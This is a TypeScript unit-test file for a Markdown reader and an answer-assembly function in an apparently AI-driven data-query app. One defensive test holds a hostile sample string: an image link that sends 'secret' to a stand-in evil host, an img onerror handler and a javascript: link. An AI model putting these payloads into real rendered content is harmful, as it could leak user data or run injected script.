import { describe, expect, it } from 'vitest';
import type { AnswerEvent } from '#contracts/der-iq';
import { readMarkdown } from './markdown.ts';
import { toPieces } from './pieces.ts';

const textOf = (source: string) =>
  readMarkdown(source).map(({ kind, lines }) => [
    kind,
    ...lines.map((line) => line.map(({ text }) => text).join('')),
  ]);

describe('the Markdown of answers', () => {
  it('reads paragraphs, lists and emphasis', () => {
    expect(textOf('Two are red:\n- Ana\n- Bo\n\nBoth **must** stop.\nNow.')).toEqual([
      ['paragraph', 'Two are red:'],
      ['bullets', 'Ana', 'Bo'],
      ['paragraph', 'Both must stop. Now.'],
    ]);
    expect(readMarkdown('*a* `b`')[0]?.lines[0]?.map(({ kind }) => kind)).toEqual([
      'emphasis',
      'plain',
      'code',
    ]);
  });
  it('leaves links, images and HTML as words', () => {
    const hostile = '![x](https://evil.example/?q=secret) <img src=x onerror=1> [y](javascript:1)';
    expect(textOf(hostile)).toEqual([['paragraph', hostile]]);
    expect(readMarkdown(hostile)[0]?.lines[0]).toEqual([{ kind: 'plain', text: hostile }]);
  });
});

const columns = [
  { name: 'day', type: 'Date' },
  { name: 'red', type: 'UInt64' },
  { name: 'green', type: 'UInt64' },
];
const sql: AnswerEvent = { type: 'sql', asked: 'SELECT 1', ran: null, limitedToScope: 'Limited.' };
const days = [
  ['2026-11-01', 1, 2],
  ['2026-11-02', 3, 4],
];
const table: AnswerEvent = { type: 'table', columns, rows: days, truncated: false };
const chart = (y: string[]): AnswerEvent => ({ type: 'chart', kind: 'line', x: 'day', y, series: null });
const words = (delta: string): AnswerEvent => ({ type: 'text', delta });

describe('pieces of an answer', () => {
  it('joins words, and a question in SQL with its rows and chart', () => {
    const pieces = toPieces([words('Two '), words('lines'), sql, table, chart(['red']), words('.')]);
    expect(pieces.map(({ kind }) => kind)).toEqual(['words', 'data', 'words']);
    expect(pieces[0]).toEqual({ kind: 'words', text: 'Two lines' });
    expect(pieces[1]).toMatchObject({
      answer: { limitedTo: 'Limited.', rows: days },
      chart: { choice: { kind: 'line', x: 0, y: 1, series: null } },
      value: null,
    });
  });
  it('puts words that come before the rows above them', () => {
    const pieces = toPieces([sql, words('Two '), words('are red.'), table, chart(['red']), words('Done.')]);
    expect(pieces).toMatchObject([
      { kind: 'words', text: 'Two are red.' },
      { kind: 'data', answer: { rows: days }, chart: { choice: { y: 1 } } },
      { kind: 'words', text: 'Done.' },
    ]);
  });
  it('draws several columns as series, and nothing of a column that is not there', () => {
    expect(toPieces([sql, table, chart(['red', 'green'])])[0]).toMatchObject({
      chart: {
        answer: {
          rows: [
            ['2026-11-01', 'red', 1],
            ['2026-11-01', 'green', 2],
            ['2026-11-02', 'red', 3],
            ['2026-11-02', 'green', 4],
          ],
        },
        choice: { x: 0, y: 2, series: 1 },
      },
    });
    expect(toPieces([sql, table, chart(['blue'])])[0]).toMatchObject({ chart: null });
  });
  it('shows one value large, and the same citation once', () => {
    const one: AnswerEvent = { type: 'table', columns: columns.slice(1, 2), rows: [['7']], truncated: false };
    expect(toPieces([sql, one])[0]).toMatchObject({ value: '7' });
    const cited = {
      type: 'citation',
      citation: '49 CFR 382.305',
      title: 't',
      quote: 'q',
      kind: 'text',
    } as const;
    const citation: AnswerEvent = { ...cited, asOf: null, href: null };
    expect(toPieces([citation, citation])).toMatchObject([{ kind: 'citations', citations: [citation] }]);
  });
});
